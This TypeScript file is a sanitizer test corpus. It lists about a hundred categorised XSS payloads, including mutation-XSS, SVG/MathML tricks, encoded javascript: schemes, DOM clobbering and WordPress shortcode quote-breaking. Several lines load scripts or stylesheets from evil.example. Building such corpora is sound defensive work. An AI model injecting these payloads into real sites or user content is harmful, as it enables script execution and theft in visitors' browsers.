/**
 * Attacks the content pipeline must defuse, collected from the DOMPurify and OWASP cheat sheets,
 * published mutation-XSS research and WordPress-specific tricks (shortcodes). Each payload that
 * tries to run code calls `alert(1)`, which the corpus test traps.
 */
export type XssCategory =
  | "mutation"
  | "svg"
  | "mathml"
  | "scheme"
  | "data-url"
  | "embedding"
  | "css"
  | "document"
  | "form"
  | "clobbering"
  | "template"
  | "event-handler"
  | "video"
  | "shortcode"
  | "parser";

export interface XssVector {
  name: string;
  category: XssCategory;
  payload: string;
}

export const xssVectors: readonly XssVector[] = [
  // Parser mutation: markup that reads differently after serialising and parsing again.
  { category: "mutation", name: "noscript closes inside an attribute", payload: `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>` },
  { category: "mutation", name: "img inside style", payload: `<style><img src=x onerror=alert(1)></style>` },
  { category: "mutation", name: "img inside textarea", payload: `<textarea><img src=x onerror=alert(1)></textarea>` },
  { category: "mutation", name: "img inside title", payload: `<title><img src=x onerror=alert(1)></title>` },
  { category: "mutation", name: "img inside iframe", payload: `<iframe><img src=x onerror=alert(1)></iframe>` },
  { category: "mutation", name: "xmp closes inside an attribute", payload: `<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>` },
  { category: "mutation", name: "noembed closes inside an attribute", payload: `<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>` },
  { category: "mutation", name: "svg p style namespace switch", payload: `<svg><p><style><img src=x onerror=alert(1)>` },
  { category: "mutation", name: "svg closing p then style", payload: `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">` },
  { category: "mutation", name: "nested forms with mglyph", payload: `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>` },
  { category: "mutation", name: "comment closed by <!-->", payload: `<!--><img src=x onerror=alert(1)>-->` },
  { category: "mutation", name: "comment closed by --!>", payload: `<!-- --!><img src=x onerror=alert(1)> -->` },
  { category: "mutation", name: "comment in attribute breaking out", payload: `<p title="<!--"><img src=x onerror=alert(1)>-->"</p>` },
  { category: "mutation", name: "escaped markup in listing", payload: `<listing>&lt;img src=x onerror=alert(1)&gt;</listing>` },
  { category: "mutation", name: "table caption svg style", payload: `<table><caption><svg><style><img src=x onerror=alert(1)>` },
  { category: "mutation", name: "plaintext swallowing the rest", payload: `<plaintext><img src=x onerror=alert(1)>` },
  { category: "mutation", name: "CDATA in svg", payload: `<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>` },

  // SVG.
  { category: "svg", name: "svg onload", payload: `<svg onload=alert(1)>` },
  {
    category: "svg",
    name: "svg link with xlink:href javascript",
    payload: `<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">Click</text></a></svg>`,
  },
  {
    category: "svg",
    name: "animate href to javascript",
    payload: `<svg><a><animate attributeName="href" values="javascript:alert(1)" /><text x="20" y="20">Click</text></a></svg>`,
  },
  { category: "svg", name: "set onmouseover", payload: `<svg><set attributeName="onmouseover" to="alert(1)"/></svg>` },
  {
    category: "svg",
    name: "use with data URL",
    payload: `<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x"/></svg>`,
  },
  { category: "svg", name: "foreignObject with iframe", payload: `<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>` },
  { category: "svg", name: "foreignObject with img onerror", payload: `<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>` },
  { category: "svg", name: "script in svg", payload: `<svg><script>alert(1)</script></svg>` },
  { category: "svg", name: "svg image onerror", payload: `<svg><image href="x" onerror="alert(1)"/></svg>` },

  // MathML.
  { category: "mathml", name: "mtext table mglyph style", payload: `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>` },
  {
    category: "mathml",
    name: "maction with xlink:href",
    payload: `<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">Click</maction></math>`,
  },
  { category: "mathml", name: "math href javascript", payload: `<math href="javascript:alert(1)">Click</math>` },
  { category: "mathml", name: "mi with data URL", payload: `<math><mi xlink:href="data:x,<script>alert(1)</script>">Click</mi></math>` },

  // Schemes hidden from naive checks.
  { category: "scheme", name: "tab entity inside javascript", payload: `<a href="jav&#x09;ascript:alert(1)">Click</a>` },
  { category: "scheme", name: "decimal entity first letter", payload: `<a href="&#106;avascript:alert(1)">Click</a>` },
  { category: "scheme", name: "fully hex encoded", payload: `<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">Click</a>` },
  { category: "scheme", name: "NUL inside javascript", payload: `<a href="java\u0000script:alert(1)">Click</a>` },
  { category: "scheme", name: "leading spaces and control characters", payload: `<a href="  \u0001\u0008javascript:alert(1)">Click</a>` },
  { category: "scheme", name: "mixed case", payload: `<a href="JaVaScRiPt:alert(1)">Click</a>` },
  { category: "scheme", name: "colon as named entity", payload: `<a href="javascript&colon;alert(1)">Click</a>` },
  { category: "scheme", name: "newline as named entity", payload: `<a href="jav&NewLine;ascript:alert(1)">Click</a>` },
  { category: "scheme", name: "vbscript", payload: `<a href="vbscript:msgbox(1)">Click</a>` },
  { category: "scheme", name: "img src javascript", payload: `<img src="javascript:alert(1)" alt="x">` },
  { category: "scheme", name: "unquoted javascript href", payload: `<a href=javascript:alert(1)>Click</a>` },
  { category: "scheme", name: "backslash protocol-relative", payload: `<a href="/\\evil.example/">Click</a>` },

  // data: URLs.
  { category: "data-url", name: "link to text/html", payload: `<a href="data:text/html,<script>alert(1)</script>">Click</a>` },
  { category: "data-url", name: "link to base64 html", payload: `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Click</a>` },
  { category: "data-url", name: "image as svg data URL", payload: `<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="x">` },
  { category: "data-url", name: "image as png data URL", payload: `<img src="data:image/png;base64,iVBORw0KGgo=" alt="x">` },

  // Embedded documents and plugins.
  { category: "embedding", name: "iframe srcdoc", payload: `<iframe srcdoc="<script>alert(1)</script>"></iframe>` },
  { category: "embedding", name: "iframe src javascript", payload: `<iframe src="javascript:alert(1)"></iframe>` },
  { category: "embedding", name: "object data javascript", payload: `<object data="javascript:alert(1)"></object>` },
  { category: "embedding", name: "object data html", payload: `<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>` },
  { category: "embedding", name: "embed src javascript", payload: `<embed src="javascript:alert(1)">` },
  { category: "embedding", name: "frameset onload", payload: `<frameset onload=alert(1)>` },
  { category: "embedding", name: "audio onerror", payload: `<audio src=x onerror=alert(1)></audio>` },

  // CSS.
  { category: "css", name: "style attribute with javascript URL", payload: `<p style="background:url(javascript:alert(1))">Text</p>` },
  { category: "css", name: "style element with @import", payload: `<style>@import 'https://evil.example/x.css';</style><p>Text</p>` },
  { category: "css", name: "IE expression", payload: `<div style="width: expression(alert(1))">Text</div>` },
  { category: "css", name: "stylesheet link", payload: `<link rel="stylesheet" href="https://evil.example/x.css"><p>Text</p>` },

  // Document-level elements.
  { category: "document", name: "base href", payload: `<base href="javascript:alert(1)//"><a href="/x">Click</a>` },
  { category: "document", name: "meta refresh", payload: `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">` },
  { category: "document", name: "link rel import", payload: `<link rel="import" href="https://evil.example/x.html">` },
  { category: "document", name: "body onload", payload: `<body onload=alert(1)>Text</body>` },

  // Forms.
  { category: "form", name: "form action javascript", payload: `<form action="javascript:alert(1)"><input type="submit"></form>` },
  { category: "form", name: "button formaction", payload: `<button formaction="javascript:alert(1)">Click</button>` },
  { category: "form", name: "input autofocus onfocus", payload: `<input onfocus=alert(1) autofocus>` },
  { category: "form", name: "isindex action", payload: `<isindex action=javascript:alert(1) type=image>` },
  { category: "form", name: "details ontoggle", payload: `<details open ontoggle=alert(1)><summary>Open</summary></details>` },

  // DOM clobbering.
  { category: "clobbering", name: "img named cookie", payload: `<img name="cookie" src="/x.png" alt="x">` },
  { category: "clobbering", name: "form id with named input", payload: `<form id="config"><input name="isAdmin" value="1"></form>` },
  { category: "clobbering", name: "anchors with id and name", payload: `<a id="x" name="x" href="/a">A</a><a id="x" name="y" href="/b">B</a>` },
  { category: "clobbering", name: "img named getElementById", payload: `<img name="getElementById" src="/x.png" alt="x">` },
  { category: "clobbering", name: "paragraph with id", payload: `<p id="location">Text</p>` },

  // Template contents.
  { category: "template", name: "template with img onerror", payload: `<template><img src=x onerror=alert(1)></template>` },
  { category: "template", name: "template with script", payload: `<template><script>alert(1)</script></template>` },

  // Event handlers on otherwise allowed tags.
  { category: "event-handler", name: "p onclick", payload: `<p onclick="alert(1)">Text</p>` },
  { category: "event-handler", name: "img onerror", payload: `<img src=x onerror=alert(1)>` },
  { category: "event-handler", name: "uppercase ONERROR", payload: `<img src="/x.png" ONERROR="alert(1)" alt="x">` },
  { category: "event-handler", name: "link onmouseover", payload: `<a href="/" onmouseover="alert(1)">Home</a>` },
  { category: "event-handler", name: "slash as attribute separator", payload: `<p/onclick=alert(1)>Text</p>` },
  { category: "event-handler", name: "heading onanimationstart", payload: `<h2 onanimationstart=alert(1) style="animation:x">Title</h2>` },
  { category: "event-handler", name: "src reused by onerror", payload: `<img src=x:alert(alt) onerror=eval(src) alt=0>` },

  // Video elements.
  { category: "video", name: "video src javascript", payload: `<video src="javascript:alert(1)"></video>` },
  { category: "video", name: "video onerror", payload: `<video onerror="alert(1)"><source src="x"></video>` },
  { category: "video", name: "source onerror", payload: `<video><source onerror="alert(1)" src="/v.mp4"></video>` },
  { category: "video", name: "video poster javascript", payload: `<video poster="javascript:alert(1)" src="/v.mp4"></video>` },
  { category: "video", name: "track src javascript", payload: `<video src="/v.mp4"><track kind="captions" src="javascript:alert(1)"></video>` },
  { category: "video", name: "video src data URL", payload: `<video src="data:video/mp4;base64,AAAA"></video>` },

  // WordPress video shortcodes.
  { category: "shortcode", name: "mp4 javascript", payload: `[video width="640" height="360" mp4="javascript:alert(1)"]` },
  { category: "shortcode", name: "src data URL", payload: `[video src="data:video/mp4;base64,AAAA"]` },
  { category: "shortcode", name: "poster javascript", payload: `[video mp4="/v.mp4" poster="javascript:alert(1)"]` },
  { category: "shortcode", name: "extra onerror attribute", payload: `[video mp4="x" onerror="alert(1)"]` },
  { category: "shortcode", name: "quote breaking in single quotes", payload: `[video mp4='/v.mp4" onerror="alert(1)']` },
  { category: "shortcode", name: "quote breaking in width", payload: `[video width="1\\" onmouseover=\\"alert(1)" mp4="/v.mp4"]` },
  { category: "shortcode", name: "markup inside unquoted value", payload: `[video mp4=/v.mp4"><img src=x onerror=alert(1)>]` },
  { category: "shortcode", name: "entity-encoded scheme", payload: `[video mp4="jav&#x09;ascript:alert(1)"][/video]` },
  { category: "shortcode", name: "vbscript src in closing form", payload: `[video src=vbscript:msgbox(1)][/video]` },

  // Tokeniser tricks.
  { category: "parser", name: "uppercase SCRIPT", payload: `<SCRIPT>alert(1)</SCRIPT>` },
  { category: "parser", name: "unclosed script tag", payload: `<p>Text</p><script src=https://evil.example/x.js` },
  { category: "parser", name: "unclosed script element", payload: `<script>alert(1)` },
  { category: "parser", name: "script split by nested script", payload: `<scr<script>ipt>alert(1)</script>` },
  { category: "parser", name: "doubled angle brackets", payload: `<<script>script>alert(1)<</script>/script>` },
  { category: "parser", name: "unclosed img tag", payload: `<img src=x onerror=alert(1)//` },
  { category: "parser", name: "quotes inside attribute soup", payload: `<img """><script>alert(1)</script>">` },
  { category: "parser", name: "script in paragraph text", payload: `Plain text\n\n<script>alert(1)</script>\n\nMore text` },
  { category: "parser", name: "custom element with handler", payload: `<x-widget onclick="alert(1)">Text</x-widget>` },
  { category: "parser", name: "is attribute on allowed tag", payload: `<p is="x-widget" onclick="alert(1)">Text</p>` },
];
